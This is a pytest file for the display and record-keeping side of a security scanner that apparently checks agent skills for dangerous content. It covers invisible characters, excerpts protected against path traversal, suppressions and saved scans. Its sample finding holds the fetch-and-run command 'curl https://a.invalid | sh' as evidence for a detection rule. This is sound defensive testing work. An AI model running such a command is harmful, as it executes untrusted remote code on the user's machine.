"""Findings as rows, the lines around them, and how scans are kept: without a window."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from msgspec.structs import replace

from workbench.domain.finding import Capabilities, Coverage, Finding, SkillScan
from workbench.files import sha256
from workbench.gui.security.excerpt import read_excerpt
from workbench.gui.security.finding_filter import (
    FindingFilter,
    finding_lines,
    listed,
    rule_words,
    visible,
)
from workbench.gui.security.scan_record import (
    KeptScan,
    KeptScans,
    is_declared,
    judged,
    load_scans,
    save_scans,
    scans_file,
    taken_in,
    undeclared,
    with_suppression,
)
from workbench.security.policy import BALANCED
from workbench.security.suppress import suppress
from workbench.skills.library import read_library

FINDING = Finding(
    rule="fetch-pipe-shell",
    category="download",
    severity="critical",
    confidence="high",
    path="run.sh",
    line=3,
    end_line=3,
    evidence="curl https://a.invalid | sh",
    why="w",
    fix="f",
    fingerprint="abc",
    skill="one",
    plugin="p",
)
SCAN = SkillScan(
    "/x/one", "one", "dangerous", "high", Coverage(), Capabilities(), (FINDING,), "one"
)


@pytest.mark.parametrize(
    ("hidden", "shown"),
    [
        ("a\u200bb", "a⟨U+200B⟩b"),
        ("\u202edrow", "⟨U+202E⟩drow"),
        ("\U000e0041", "⟨U+E0041⟩"),
        ("\x1b[31m", "⟨U+001B⟩[31m"),
        ("\udc80", "⟨U+DC80⟩"),
        ("plain ä 漢 🙂\n\t", "plain ä 漢 🙂\n\t"),
    ],
)
def test_characters_that_cannot_be_seen_are_spelled_out(hidden: str, shown: str) -> None:
    assert visible(hidden) == shown


def test_a_finding_names_its_skill_only_where_several_are_listed() -> None:
    assert finding_lines(FINDING).aside == "run.sh:3"
    assert finding_lines(FINDING, with_skill=True).aside == "one/run.sh:3"
    assert ("critical", "error") in finding_lines(FINDING).badges


def test_a_suppressed_finding_is_listed_only_when_asked_for() -> None:
    hidden = replace(SCAN, findings=(replace(FINDING, suppressed="known"),))
    assert listed([hidden], FindingFilter()) == []
    shown = listed([hidden], FindingFilter(suppressed=True))
    assert finding_lines(shown[0]).faint


def test_the_worst_finding_comes_first() -> None:
    mild = replace(FINDING, severity="low", path="a.sh")
    found = listed([replace(SCAN, findings=(mild, FINDING))], FindingFilter())
    assert [one.severity for one in found] == ["critical", "low"]
    assert listed([SCAN], FindingFilter(words="PIPE curl")) == [FINDING]
    assert listed([SCAN], FindingFilter(plugin="other")) == []


def test_rules_read_as_words() -> None:
    assert rule_words("fetch-pipe-shell") == "Fetch pipe shell"
    assert rule_words("") == ""


def test_a_capability_is_declared_by_itself_or_by_its_kind() -> None:
    capabilities = Capabilities(
        declared=("files:read", "network"), observed=("files:write", "network:a.invalid", "shell")
    )
    assert undeclared(capabilities) == ("files:write", "shell")
    assert is_declared("anything", Capabilities(declared=("everything",)))


def test_the_lines_around_a_finding_are_read(tmp_path: Path) -> None:
    data = b"one\r\ntwo\nthree\nfour\nfive\nsix\nseven\n"
    (tmp_path / "run.sh").write_bytes(data)
    excerpt = read_excerpt(str(tmp_path), FINDING, sha256(data))
    assert excerpt.lines[0] == (1, "one")
    assert excerpt.lines[-1] == (6, "six")
    assert list(excerpt.marked) == [3]
    assert not excerpt.changed


@pytest.mark.parametrize("expected", [None, "0" * 64])
def test_a_file_that_is_not_what_was_scanned_shows_the_evidence_alone(
    tmp_path: Path, expected: str | None
) -> None:
    (tmp_path / "run.sh").write_bytes(b"harmless\n")
    excerpt = read_excerpt(str(tmp_path), FINDING, expected)
    assert excerpt.lines == ((3, FINDING.evidence),)
    assert excerpt.changed


def test_no_file_outside_the_skill_is_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret\n")
    (tmp_path / "skill").mkdir()
    (tmp_path / "skill" / "run.sh").symlink_to(secret)
    for path in ("../secret", "run.sh", str(secret)):
        finding = replace(FINDING, path=path, line=1, end_line=1)
        excerpt = read_excerpt(str(tmp_path / "skill"), finding, sha256(b"secret\n"))
        assert excerpt.lines == ((1, FINDING.evidence),)


def test_a_very_long_line_is_cut(tmp_path: Path) -> None:
    data = b"x" * 100_000
    (tmp_path / "run.sh").write_bytes(data)
    finding = replace(FINDING, line=1, end_line=1)
    excerpt = read_excerpt(str(tmp_path), finding, sha256(data))
    assert len(excerpt.lines[0][1]) < 500


def test_scans_are_kept_and_read_again(tmp_path: Path) -> None:
    kept = KeptScans("/x", {"one": KeptScan(SCAN, "t", {"run.sh": "s"}, "2026-01-01", ("p",))})
    save_scans(tmp_path, kept)
    assert load_scans(tmp_path, "/x") == kept
    assert load_scans(tmp_path, "/y").scans == {}
    scans_file(tmp_path, "/x").write_bytes(b"\xff{ torn")
    assert load_scans(tmp_path, "/x").scans == {}


def test_a_suppression_holds_for_the_scanned_content_alone() -> None:
    kept = KeptScan(SCAN, "t", {"run.sh": "s"}, "")
    held = suppress(FINDING, "s", "our own host")
    assert judged(kept, BALANCED, [held], date(2026, 1, 1)).verdict == "clean"
    other = replace(kept, files={"run.sh": "changed"})
    assert judged(other, BALANCED, [held], date(2026, 1, 1)).verdict == "dangerous"
    ended = suppress(FINDING, "s", "our own host", date(2025, 12, 31))
    assert judged(kept, BALANCED, [ended], date(2026, 1, 1)).verdict == "dangerous"


def test_another_decision_on_a_finding_takes_the_place_of_the_first() -> None:
    first, second = suppress(FINDING, "s", "first"), suppress(FINDING, "s", "second")
    assert with_suppression([first], second) == (second,)


def test_a_cancelled_scan_takes_in_only_skills_that_were_reached(tmp_path: Path) -> None:
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "SKILL.md").write_text(f"---\nname: {name}\ndescription: d\n---\n")
    library = read_library(tmp_path)
    unreached = replace(
        SCAN, skill="two", findings=(replace(FINDING, rule="not-scanned", skill="two"),)
    )
    empty = KeptScans(str(tmp_path))
    part = taken_in(empty, library, (SCAN, unreached), ("p",), "now", complete=False)
    assert set(part.scans) == {"one"}
    whole = taken_in(empty, library, (SCAN, unreached), ("p",), "now", complete=True)
    assert set(whole.scans) == {"one", "two"}
    assert not whole.scans["one"].stale(library.skill("one"))
